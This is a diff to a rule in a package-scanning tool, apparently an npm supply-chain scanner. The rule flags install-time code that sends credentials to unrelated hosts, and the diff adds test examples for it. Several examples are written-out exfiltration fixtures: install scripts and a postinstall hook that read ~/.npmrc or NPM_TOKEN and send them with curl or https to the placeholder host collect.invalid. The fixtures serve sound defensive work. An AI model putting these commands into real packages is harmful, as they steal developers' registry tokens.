@@ -2,11 +2,13 @@
 
 ## What it detects
 A flow from the reading of a secret (token file, key, credential variable, metadata address) or of the whole
-environment to a connection or a DNS query, that the line never had. *data* means that the value itself was followed,
+environment to a connection or a DNS query, that the line never had; a command that is started with the secret and
+connects is a connection too. *data* means that the value itself was followed,
 *scope* that both stand in one function. Several different secrets, or a destination of a suspicious sort (raw
 address, webhook, messenger, paste site, tunnel, hidden name), make it a harvest.
 At first contact only flows in code that runs by itself are asked, and an ordinary one weighs little: installers do
-send a token to the service that issued it.
+send a token to the service that issued it. An installation that sends the content of a credential file, or a token to
+a host that has nothing to do with its name, is no ordinary one.
 
 ## Why it matters
 32 of 75 documented incidents read credential paths or the environment; the stolen tokens publish the next ones.
@@ -21,8 +23,8 @@ always sent a token somewhere and now send it elsewhere in plain sight.
 
 from collections.abc import Iterator
 
-from lazaretto.core.destination import destination
-from lazaretto.core.facts import Kind
+from lazaretto.core.destination import destination, own_service
+from lazaretto.core.facts import Kind, Reach
 from lazaretto.core.finding import Card, Example, Finding
 from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, new_chains, package_json
 from lazaretto.core.update import Pair, Update
@@ -38,6 +40,7 @@ CARD = Card(
         "call-data": "In a function the value of a secret goes to the network.",
         "call-scope": "In a function a secret is read and a connection made.",
         "first-contact-harvest": "No earlier release; what runs by itself sends several secrets or hides where to.",
+        "first-contact-taken": "No earlier release; a credential is taken to a host that it does not belong to.",
         "first-contact": "No earlier release; code that runs by itself sends a secret.",
     },
     group="flow",
@@ -50,6 +53,10 @@ _SINKS = (Kind.NET_CONNECT, Kind.DNS_QUERY)
 _MANY = 3
 
 _BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
+_INSTALLED = {
+    "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
+    "index.js": "module.exports = (a) => a;\n",
+}
 _CLIENT = (
     "exports.call = function call() {\n"
     "  return fetch('https://api.invalid/v1', { headers: { authorization: process.env.API_TOKEN } });\n};\n"
@@ -82,6 +89,57 @@ EXAMPLES = (
         at="pad/__init__.py:2",
     ),
     Example(
+        title="first contact with an installer that posts the user's registry token",
+        after={
+            **_INSTALLED,
+            "install.js": "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
+            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+            "const request = https.request('https://collect.invalid/in', { method: 'POST' });\n"
+            "request.write(token);\nrequest.end();\n",
+        },
+        expect="first-contact-taken",
+        at="install.js:4",
+    ),
+    Example(
+        title="first contact with an installer that starts a command with a token and an address",
+        after={
+            **_INSTALLED,
+            "install.js": "require('child_process').exec("
+            "'curl -d \"' + process.env.NPM_TOKEN + '\" https://collect.invalid');\n",
+        },
+        expect="first-contact-taken",
+        at="install.js:1",
+    ),
+    Example(
+        title="first contact with a lifecycle script that uploads a credential file",
+        after={
+            "package.json": package_json(
+                "1.0.0", scripts={"postinstall": "curl -d @$HOME/.npmrc https://collect.invalid/in"}
+            ),
+            "index.js": "module.exports = (a) => a;\n",
+        },
+        expect="first-contact-taken",
+        at="package.json:6",
+    ),
+    Example(
+        title="first contact with an installer that shows a token to the service that issued it",
+        after={
+            **_INSTALLED,
+            "install.js": "fetch('https://api.github.com.invalid/releases',"
+            " { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
+        },
+        expect="first-contact",
+        at="install.js:1",
+    ),
+    Example(
+        title="first contact with an installer that downloads with the environment it was given",
+        after={
+            **_INSTALLED,
+            "install.js": "const { execSync } = require('child_process');\n"
+            "execSync('curl -O https://files.invalid/pad-1.0.0.tgz', { env: process.env });\n",
+        },
+    ),
+    Example(
         title="a client library sends its token to its own service, as it always did",
         before={"package.json": package_json("1.0.0"), "index.js": _CLIENT},
         after={"package.json": package_json("1.1.0"), "index.js": _CLIENT.replace("v1", "v2")},
@@ -105,6 +163,7 @@ _MESSAGES = {
     "call-data": "sends a secret to the network when it is called",
     "call-scope": "reads a secret and connects to the network when it is called",
     "first-contact-harvest": "sends secrets to the network without being called",
+    "first-contact-taken": "sends a credential to a host that it does not belong to, without being called",
     "first-contact": "sends a secret to the network without being called",
 }
 
@@ -130,11 +189,20 @@ def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, C
         for chain, new_kind in here:
             if pair.before is None:
                 if autorun:
-                    yield "first-contact-harvest" if harvest else "first-contact", chain
+                    plain = "first-contact-taken" if _is_taken(chain) else "first-contact"
+                    yield "first-contact-harvest" if harvest else plain, chain
             elif harvest:
                 yield "harvest" if autorun else "call-harvest", chain
             elif new_kind:
                 yield f"{'autorun' if autorun else 'call'}-{'data' if chain.data else 'scope'}", chain
+
+
+def _is_taken(chain: Chain) -> bool:
+    """Whether a credential goes where it does not belong; what cannot be told is held against a command alone."""
+    if not chain.data or chain.source.fact.kind is not Kind.SECRET_READ:
+        return False
+    own = own_service(chain.source.fact.value or "", chain.sink.fact.value)
+    return own is not True if chain.command else own is False and chain.reach is Reach.INSTALL
 
 
 def _is_harvest(found: list[Chain]) -> bool:
